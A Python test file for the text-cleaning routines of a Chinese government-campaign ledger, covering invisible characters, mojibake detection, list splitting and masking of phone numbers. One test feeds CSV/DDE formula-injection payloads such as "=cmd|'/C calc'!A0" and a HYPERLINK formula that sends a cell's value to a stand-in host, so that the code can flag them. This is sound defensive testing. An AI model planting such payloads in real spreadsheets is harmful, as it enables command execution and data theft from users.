"""Words in cells: cleaned of what nobody sees, refused where garbled, empty where they say nothing."""

from __future__ import annotations

from datetime import date, datetime, time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from govcampaign.ledger.outcome import Fault, Weight
from govcampaign.ledger.taken import Taken
from govcampaign.ledger.texts import (
    clean,
    folded_name,
    is_second_version,
    meant,
    mojibake,
    read_list,
    read_text,
    safe,
    says_nothing,
    spelled,
    split_outside,
)

NUMBER = "0" * 11
"""A placeholder of a telephone number."""


@pytest.mark.parametrize(
    ("typed", "seen"),
    [
        ("  示例 ", "示例"),
        ("\u3000示例\xa0", "示例"),
        ("示\u200b例\ufeff", "示例"),
        ("\u202e示例\u2069", "示例"),
        ("示例\r\n第二行", "示例\n第二行"),
        ("示例 \u2028 第二行", "示例\n第二行"),
        ("示例_x000D_\n第二行", "示例\n第二行"),
        ('="示例部门07"', "示例部门07"),
        ('="甲""乙"', '甲"乙'),
        ('="甲"&"乙"', '="甲"&"乙"'),
        ('="甲', '="甲'),
        ("甲 \n\n  乙", "甲\n\n乙"),
        ("'007", "007"),
        ("'甲'", "'甲'"),
        ("=政策+服务", "=政策+服务"),
        ("<b>政策</b>&解读", "<b>政策</b>&解读"),
        ("", ""),
    ],
)
def test_a_text_is_cleaned_of_what_nobody_sees(typed, seen):
    """Invisible characters, blanks around and the wrappings of programs go; words and markup stay."""
    assert clean(typed) == seen


@given(st.text())
def test_a_clean_text_is_clean(text):
    """Cleaning leaves no characters of control or format, and no blanks around."""
    kept = clean(text)

    assert kept == kept.strip()
    assert "\u200b" not in kept
    assert "\r" not in kept


@given(st.text(max_size=30))
def test_folding_is_done_once(text):
    """A folded name folds to itself."""
    assert folded_name(folded_name(text)) == folded_name(text)
    assert folded_name("A´") == "á"


@pytest.mark.parametrize(
    "said", ["", "无", "暂无", "没有", "—", "－－", "/", "…", "（无）", "N/A", "不涉及", "无。", "无 "]
)
def test_some_words_say_nothing(said):
    """无 and a stroke are no finding called 无."""
    assert says_nothing(clean(said))


@pytest.mark.parametrize("said", ["无媒体名", "无人机推广", "-5℃冷链补贴政策解读", "0", "无法办理的几个问题"])
def test_other_words_say_something(said):
    """Words that begin with 无 or with a stroke are kept."""
    assert not says_nothing(said)


@pytest.mark.parametrize(
    ("garbled", "right"),
    [("ç¤ºä¾‹éƒ¨é—¨14", "示例部门14"), ("绀轰緥閮ㄩ棬14", "示例部门14")],
)
def test_utf8_that_was_read_as_another_encoding_is_known(garbled, right):
    """The letters that were meant can be shown."""
    assert mojibake(garbled)
    assert meant(garbled) == right


@pytest.mark.parametrize("lost", ["锟斤拷锟斤拷", "示例\ufffd\ufffd", "????", "？？？", "烫烫烫", "\ud800"])
def test_bytes_that_are_lost_are_known(lost):
    """What replaced the letters tells that they are gone."""
    assert mojibake(lost)


@pytest.mark.parametrize("honest", ["示例部门14", "Café 示例", "naïve", "联通", "是什么？", "What?", "Ã"])
def test_honest_words_are_not_taken_for_garbled(honest):
    """Accents, questions and Chinese are no sign of a wrong encoding."""
    assert not mojibake(honest)


@given(
    st.text(
        "的一是了我不在人有他这中大来上个国和也子时道说为企业走访问题办理单位活动", min_size=2, max_size=12
    )
)
def test_garbled_words_are_found_whatever_they_meant(words):
    """UTF-8 read as Western or as GB18030 is never taken for what somebody wrote, and plain words are."""
    assert not mojibake(words)
    assert mojibake(words.encode().decode("cp1252", "replace"))
    assert mojibake(words.encode().decode("gb18030", "replace"))


@pytest.mark.parametrize(
    ("raw", "text"),
    [
        ("示例", "示例"),
        (None, ""),
        (3, "3"),
        (12.0, "12"),
        (2.5, "2.5"),
        (1e30, "1e+30"),
        (True, "是"),
        (False, "否"),
        (date(2013, 7, 5), "2013-07-05"),
        (datetime(2013, 7, 5), "2013-07-05"),
        (datetime(2013, 7, 5, 9, 30), "2013-07-05 09:30"),
        (time(9, 30), "09:30"),
    ],
)
def test_cells_that_hold_no_text_are_spelled(raw, text):
    """A number has no superfluous point, a day no hour that it does not name."""
    assert spelled(raw) == text


@pytest.mark.parametrize(
    ("raw", "title"),
    [
        ("活动总结\n（含附件）", "活动总结（含附件）"),
        ("示例 企业０１", "示例企业01"),
        ("Example  Co. Ltd", "Example Co. Ltd"),
        ('《"活动"总结》', '《"活动"总结》'),
        ("-5℃冷链补贴政策解读", "-5℃冷链补贴政策解读"),
        ("+服务：企业来了怎么办", "+服务：企业来了怎么办"),
        ("@企业：政策来了！", "@企业：政策来了！"),
        (2013, "2013"),
    ],
)
def test_a_name_is_one_line_with_narrow_digits(raw, title):
    """Line ends and blanks between Han go; brackets and honest signs stay, without a word."""
    assert read_text(raw) == Taken(title)


@pytest.mark.parametrize(
    "raw",
    [
        "=cmd|'/C calc'!A0",
        '=HYPERLINK("http://example.invalid/?x="&A2,"点此")',
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "\t=1+1",
        "＝cmd|'/C calc'!A0",
        "-2+3+cmd|' /C calc'!D2",
        "+Sheet1!A1",
    ],
)
def test_words_that_look_like_a_formula_are_kept_with_a_warning(raw):
    """What a spreadsheet would run is kept as words, and somebody must look."""
    taken = read_text(raw)

    assert taken.value == clean(raw)
    assert [(fault.code, fault.weight) for fault in taken.faults] == [("looks_like_formula", Weight.WARNING)]


@pytest.mark.parametrize(
    ("raw", "prose", "code"),
    [
        ("同上", False, "ditto"),
        ("锟斤拷", True, "mojibake"),
        ("示" * 301, False, "too_long"),
        ("示" * 4001, True, "too_long"),
        ("示\ue000例", False, "hidden_character"),
    ],
)
def test_words_that_cannot_be_used_are_refused(raw, prose, code):
    """Ditto, garbled and overlong words are faults with a remedy."""
    fault = read_text(raw, prose=prose)

    assert isinstance(fault, Fault)
    assert fault.code == code
    assert fault.remedy.zh


def test_free_words_keep_their_lines():
    """A note keeps its line ends and its full-width letters."""
    assert read_text("甲\r\n乙１", prose=True) == Taken("甲\n乙１")
    assert read_text("待定", prose=True) == Taken("待定")
    assert read_text("无", prose=True).value is None


@pytest.mark.parametrize(
    ("raw", "items"),
    [
        ("用工难", ("用工难",)),
        ("1.融资难；\n2.审批慢", ("融资难", "审批慢")),
        ("1、融资难 2、审批慢", ("融资难", "审批慢")),
        ("（1）融资难；（2）审批慢。", ("融资难", "审批慢")),
        ("一是融资难；二是审批慢", ("融资难", "审批慢")),
        ("①融资难②审批慢", ("融资难②审批慢",)),
        ("①融资难\n②审批慢", ("融资难", "审批慢")),
        ("投资1.5亿元的项目缺地", ("投资1.5亿元的项目缺地",)),
        ("水、电、气不通", ("水、电、气不通",)),
        ("1.无", None),
        ("无", None),
    ],
)
def test_sentences_are_parted_at_numbers_and_semicolons(raw, items):
    """A list of sentences keeps 、 inside of them."""
    assert read_list(raw, prose=True).value == items


@pytest.mark.parametrize(
    ("raw", "names"),
    [
        ("示例政策甲", ("示例政策甲",)),
        ("问题05、问题06", ("问题05", "问题06")),
        ("问题05,问题06；问题05", ("问题05", "问题06")),
        ("《甲、乙办法》、《丙办法》", ("《甲、乙办法》", "《丙办法》")),
        ("1.甲政策\n2.乙政策", ("甲政策", "乙政策")),
        ("（甲", ("（甲",)),
    ],
)
def test_names_are_parted_at_every_separator_outside_brackets(raw, names):
    """Each name is returned once; a 、 inside 《》 parts nothing."""
    assert read_list(raw, prose=False).value == names


def test_a_list_with_a_character_that_cannot_be_seen_is_refused():
    """A name that cannot be told from another is no name; garbled lists are refused as a whole."""
    assert read_list("甲、乙\ue000", prose=False).code == "hidden_character"
    assert read_list("锟斤拷", prose=False).code == "mojibake"


def test_brackets_that_close_out_of_turn_part_nothing_wrongly():
    """Nested brackets are followed to their end."""
    assert split_outside("甲（乙《丙、丁》、戊）、己", "、") == ["甲（乙《丙、丁》、戊）", "己"]


@pytest.mark.parametrize(
    ("text", "quoted"),
    [
        ("示例", "示例"),
        ("甲\n乙", "甲 乙"),
        ("示" * 30, "示" * 23 + "…"),
        (f"示例 {NUMBER}", "示例 …"),
        (f"022-{NUMBER}", "…"),
        (NUMBER + "1234567X", "…"),
        ("2013-06-31", "2013-06-31"),
        ("2031-07-08 09:30", "2031-07-08 09:30"),
        ("2013-0731", "…"),
        ("\ud800", "?"),
    ],
)
def test_messages_quote_words_short_and_without_long_numbers(text, quoted):
    """A telephone or identity number never shows in a message."""
    assert safe(text) == quoted


@pytest.mark.parametrize(
    ("title", "second"),
    [("活动总结（修改稿）", True), ("活动总结第二稿", True), ("活动总结", False), ("整改方案", False)],
)
def test_a_title_says_that_it_is_a_second_version(title, second):
    """修改稿 is handed in again; a paper about amendments is not."""
    assert is_second_version(title) is second
